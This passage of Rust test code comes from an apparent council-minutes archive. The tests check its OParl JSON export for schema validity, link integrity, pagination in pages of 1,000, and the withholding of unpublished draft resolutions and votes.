fn the_oparl_schemas_refuse_a_broken_object() {
    let schemas = OparlSchemas::load();
    let mut f = called_in_council();
    publish_drafts(&mut f.store);
    let v = f.store.oparl_export(BASE, None).unwrap();
    let mut bad = agenda_item(&v, f.cabinet_item.id).clone();
    assert!(schemas.errors("AgendaItem", &bad).is_empty());
    bad["result"] = serde_json::json!(4);
    assert!(
        !schemas.errors("AgendaItem", &bad).is_empty(),
        "the schema is applied"
    );
    let mut body = v["body"].clone();
    assert!(schemas.errors("Body", &body).is_empty());
    body.as_object_mut().unwrap().remove("meeting");
    assert!(
        !schemas.errors("Body", &body).is_empty(),
        "a Body needs its meeting list"
    );
    let mut meeting = v["meeting"][0].clone();
    assert!(schemas.errors("Meeting", &meeting).is_empty());
    meeting["agendaItem"][0]
        .as_object_mut()
        .unwrap()
        .remove("order");
    assert!(
        !schemas.errors("Meeting", &meeting).is_empty(),
        "an embedded agenda item is checked by the Meeting's schema"
    );
}

/// Every URL under the base that an object gives (its id, the Body's lists, each cross
/// reference, a list's page links) is the path of one of the site's files, and each object's
/// file holds the object whose id it is.
#[test]
fn oparl_site_files_leave_no_link_dangling() {
    fn urls<'a>(v: &'a serde_json::Value, out: &mut Vec<&'a str>) {
        match v {
            serde_json::Value::String(s) if s.starts_with(BASE) => out.push(s),
            serde_json::Value::Object(m) => m.values().for_each(|x| urls(x, out)),
            serde_json::Value::Array(a) => a.iter().for_each(|x| urls(x, out)),
            _ => {}
        }
    }
    let (_dir, mut demo, _ids) = demo_store();
    publish_drafts(&mut demo);
    let mut f = called_in_council();
    publish_drafts(&mut f.store);
    for store in [&demo, &f.store] {
        let files = store.oparl_files(BASE).unwrap();
        let paths: std::collections::HashSet<&str> =
            files.iter().map(|(p, _)| p.as_str()).collect();
        assert_eq!(paths.len(), files.len(), "no path given twice");
        for p in [
            "system.json",
            "body.json",
            "body/1.json",
            "body/1/meeting.json",
        ] {
            assert!(paths.contains(p), "{p}");
        }
        let mut checked = 0;
        for (path, json) in &files {
            assert!(path.ends_with(".json") && !path.starts_with('/'), "{path}");
            if let Some(id) = json.get("id").and_then(|i| i.as_str()) {
                assert_eq!(
                    id,
                    format!("{BASE}/{path}"),
                    "the file holds its own object"
                );
            } else {
                assert!(
                    json["data"].is_array() && json["pagination"].is_object(),
                    "{path}"
                );
            }
            let mut out = Vec::new();
            urls(json, &mut out);
            for u in out {
                let rel = u.strip_prefix(&format!("{BASE}/")).unwrap();
                assert!(paths.contains(rel), "{path} links to {u}, which no file is");
                checked += 1;
            }
        }
        assert!(checked > 150, "{checked} links checked");
    }
}

/// A list longer than a page is split into pages of 1,000, each linked to the next, with
/// OParl's pagination; all the pages together hold every object once.
#[test]
fn oparl_lists_longer_than_a_page_are_split_and_linked() {
    let dir = tempfile::tempdir().unwrap();
    let mut store = minutes_store::Store::open(&dir.path().join("archive.sqlite3")).unwrap();
    minutes_store::archive::generate_archive(
        &mut store,
        &minutes_store::archive::ArchiveSpec {
            bodies: 6,
            years: 2,
            meetings_per_year: 70,
            ..Default::default()
        },
    )
    .unwrap();
    let files = store.oparl_files(BASE).unwrap();
    let file = |p: &str| &files.iter().find(|(path, _)| path == p).unwrap().1;
    let first = file("body/1/agendaItem.json");
    let total = first["pagination"]["totalElements"].as_u64().unwrap() as usize;
    assert!(total > 1000, "{total} agenda items");
    let pages = total.div_ceil(1000);
    assert_eq!(first["pagination"]["totalPages"], pages);
    assert_eq!(first["pagination"]["elementsPerPage"], 1000);
    let mut seen = std::collections::HashSet::new();
    let mut next = Some("body/1/agendaItem.json".to_string());
    let mut n = 0;
    while let Some(p) = next {
        n += 1;
        let page = file(&p);
        assert_eq!(page["pagination"]["currentPage"], n);
        for o in page["data"].as_array().unwrap() {
            assert!(seen.insert(o["id"].as_str().unwrap().to_string()));
        }
        next = page["links"]["next"]
            .as_str()
            .map(|u| u.strip_prefix(&format!("{BASE}/")).unwrap().to_string());
    }
    assert_eq!((n, seen.len()), (pages, total));
    assert_eq!(
        file("body/1/agendaItem-2.json")["links"]["prev"],
        format!("{BASE}/body/1/agendaItem.json")
    );
    // The archive's objects validate too (a sample: the first page of each list).
    let schemas = OparlSchemas::load();
    for (path, json) in &files {
        if path.starts_with("body/1/") && !path.contains('-') {
            schemas.assert_valid(json);
        }
    }
}

/// Minutes not yet published (the draft not yet published to members) give nothing of their
/// resolutions in OParl, in the one-file export or the site: no minute number, resolution
/// text, result or vote, no call-in outcome decided at them; their agenda is given. Once the
/// draft is published, all of it is.
#[test]
fn oparl_says_nothing_of_minutes_not_yet_published() {
    let mut f = called_in_council();
    let decision = "the Library Strategy be approved";
    for (what, v) in [
        ("export", f.store.oparl_export(BASE, None).unwrap()),
        ("site", site(&f.store).1),
    ] {
        let text = v.to_string();
        for secret in [
            decision,
            "Carried",
            "Pasiwyd",
            "Rural branches were not consulted",
        ] {
            assert!(
                !text.contains(secret),
                "{what}: {secret:?} of a draft not yet published"
            );
        }
        assert!(
            text.contains("Library Strategy"),
            "{what}: the agenda is public"
        );
    }
    let v = f.store.oparl_export(BASE, None).unwrap();
    let cabinet = agenda_item(&v, f.cabinet_item.id);
    for key in [
        "number",
        "result",
        "resolutionText",
        "cofnod:vote",
        "cofnod:resolutions",
    ] {
        assert!(cabinet.get(key).is_none(), "a draft's {key} is left out");
    }
    assert_eq!(cabinet["public"], true);

    publish_drafts(&mut f.store);
    let v = f.store.oparl_export(BASE, None).unwrap();
    let cabinet = agenda_item(&v, f.cabinet_item.id);
    assert_eq!(cabinet["number"], "C1");
    assert!(cabinet["resolutionText"]
        .as_str()
        .unwrap()
        .contains(decision));
    assert!(cabinet["result"].as_str().unwrap().starts_with("Carried"));
    let (_, all) = site(&f.store);
    assert!(all
        .to_string()
        .contains("Rural branches were not consulted"));
}
